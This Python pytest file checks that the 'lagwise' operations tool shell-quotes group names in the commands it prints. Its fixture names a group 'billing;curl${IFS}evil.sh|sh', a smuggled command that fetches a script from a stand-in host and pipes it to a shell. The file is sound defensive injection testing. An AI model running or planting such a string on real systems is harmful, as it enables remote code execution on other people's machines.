"""No command that lagwise prints runs a part of a group's name when it is pasted into a shell."""

import re
from datetime import datetime, timedelta, timezone
from typing import Any

import pytest

from assignor.protocol.commands import Orders
from pipeline.errors import NotWaitingError
from pipeline.operate.cli.orders import commands
from pipeline.operate.listings.waiting import check_is
from pipeline.planning.life import order_reasons
from pipeline.planning.state import GroupState, to_json
from pipeline.tables.stamp import Stamp
from tests.support.operate.table_world import World

HOSTILE = "billing;curl${IFS}evil.sh|sh"


def printed(text: str) -> set[str]:
    """Commands in a text, without those for any group."""
    return {one for one in re.findall("`lagwise ([^`]*)`", text) if "billing" in one}


@pytest.fixture
def waiting(world: World) -> World:
    """A group on probation with a plan that waits for approval."""
    now = datetime.now(tz=timezone.utc)
    named = {"group_id": HOSTILE, "updated_at": now, "date": now.date()}
    plan = {"epoch": 6, "moves": 3, "moves_made": 2, "published_at": now, "status": "partly"}
    decision: dict[str, Any] = {
        **named,
        "decision": "awaiting_approval",
        "reason": order_reasons.awaiting_approval("2026-01-31T12:00:00Z", HOSTILE),
        "moves": [],
        "awaiting_since": now,
        "valid_until": now + timedelta(minutes=10),
        "probation_until": now + timedelta(minutes=30),
        "recorded_at": now - timedelta(minutes=1),
        "plan": plan,
        "plan_effect": "hurt",
        "state": to_json(GroupState()),
    }
    stamp = Stamp(batch_id=7, at_ms=round(now.timestamp() * 1000))
    world.write("partition_lag", {**named, "lag": 900, "log_observed_at": now}, stamp=stamp)
    world.write("plan_state", decision)
    world.complete()
    return world


def test_doctor_quotes_the_group(waiting: World) -> None:
    assert printed(waiting.run("doctor", HOSTILE).stdout) == {
        f"approve '{HOSTILE}'",
        f"recommendations --group '{HOSTILE}' --detail",
        f"resume '{HOSTILE}'",
    }


def test_detail_of_recommendations_quotes_the_group(waiting: World) -> None:
    shown = waiting.run("recommendations", "--detail").stdout

    assert printed(shown) == {f"approve '{HOSTILE}'", f"resume '{HOSTILE}'"}


def test_approval_of_another_plan_quotes_the_group() -> None:
    with pytest.raises(NotWaitingError) as raised:
        check_is({"target_hash": "a", "base_hash": "b"}, HOSTILE, "c-d")

    assert printed(str(raised.value)) == {f"approve '{HOSTILE}'"}


def test_trigger_of_a_paused_group_quotes_the_group(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setattr(commands, "give", lambda *_, **__: Orders(cluster="c", group=HOSTILE, paused=True))

    commands.trigger(HOSTILE)

    assert printed(capsys.readouterr().err) == {f"resume '{HOSTILE}'"}
